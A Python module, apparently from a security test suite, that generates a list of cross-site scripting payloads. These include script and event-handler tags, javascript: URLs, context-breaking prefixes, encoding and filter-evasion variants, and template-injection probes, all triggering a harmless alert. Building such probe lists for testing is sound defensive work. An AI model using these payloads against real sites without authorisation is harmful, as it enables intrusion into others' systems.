"""Texts that would run where they are written into a page as they are (S46)."""

from __future__ import annotations

from typing import Final

#: What each runs; a dialog, a console line and a variable, so that none can be missed.
ACT: Final = "alert('wangge-xss')"
_TAGS: Final = (
    "<script>{a}</script>", "<ScRiPt>{a}</sCrIpT>", "<script/x>{a}</script/x>", "<img src=x onerror={a}>",
    "<img src=x onerror=\"{a}\">", "<img/src=x/onerror={a}>", "<svg onload={a}>", "<svg/onload={a}>",
    "<svg><script>{a}</script></svg>", "<svg><animate onbegin={a} attributeName=x dur=1s>",
    "<svg><set onbegin={a} attributeName=x>", "<body onload={a}>", "<iframe src=\"javascript:{a}\">",
    "<iframe srcdoc=\"<script>{a}</script>\">", "<details open ontoggle={a}>", "<video><source onerror={a}>",
    "<audio src=x onerror={a}>", "<input autofocus onfocus={a}>", "<select autofocus onfocus={a}>",
    "<textarea autofocus onfocus={a}>", "<marquee onstart={a}>", "<object data=\"javascript:{a}\">",
    "<embed src=\"javascript:{a}\">", "<a href=\"javascript:{a}\">x</a>", "<math><mi xlink:href=\"javascript:{a}\">x",
    "<form><button formaction=\"javascript:{a}\">x", "<style>@import 'javascript:{a}'</style>",
    "<link rel=stylesheet href=\"javascript:{a}\">", "<meta http-equiv=refresh content=\"0;javascript:{a}\">",
    "<base href=\"javascript:{a}//\">", "<template><script>{a}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={a}>\">", "<title></title><script>{a}</script>",
    "<xss style=\"animation-name:x\" onanimationstart={a}>", "<div onpointerover={a}>x</div>",
    "<isindex action=\"javascript:{a}\" type=submit>", "<image src=x onerror={a}>", "<applet code=\"javascript:{a}\">",
)  # fmt: skip
_BREAKS: Final = (
    "", "\">", "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</option></select>",
    "\"/>", "' autofocus onfocus={a} x='", "\" autofocus onfocus={a} x=\"", "</noscript>", "`>",
)  # fmt: skip
_WORDS: Final = (
    "javascript:{a}", "\"-{a}-\"", "'-{a}-'", "${{{a}}}", "{{{{constructor.constructor(\"{a}\")()}}}}", "{{{{7*7}}}}",
    "{{% debug %}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "\\x3cscript\\x3e{a}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{a}\\u003c/script\\u003e", "&lt;script&gt;{a}&lt;/script&gt;", "%3Cscript%3E{a}%3C/script%3E",
    "&#60;img src=x onerror={a}&#62;", "＜script＞{a}＜/script＞", "+ADw-script+AD4-{a}+ADw-/script+AD4-",
    "</script><script>{a}//", "\";{a};//", "';{a};//", "\\\";{a};//", "\\';{a};//", "*/{a}/*", "\u2028{a}\u2029",
    "<!--<img src=\"--><img src=x onerror={a}//\">", "<scr<script>ipt>{a}</scr</script>ipt>", "<img src=x onerror=\n{a}>",
    "<img \x0bsrc=x onerror={a}>", "<a href=\" &#14; javascript:{a}\">x", "<a href=\"jav&#x09;ascript:{a}\">x",
    "<a href=\"data:text/html,<script>{a}</script>\">x", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)  # fmt: skip


def payloads() -> list[str]:
    """Return them all, each once."""
    made = [text.replace("{a}", ACT) for text in _TAGS]
    made += [(before + tag).replace("{a}", ACT) for before in _BREAKS[1:] for tag in _TAGS[:12]]
    made += [text.format(a=ACT) for text in _WORDS]
    return list(dict.fromkeys(made))
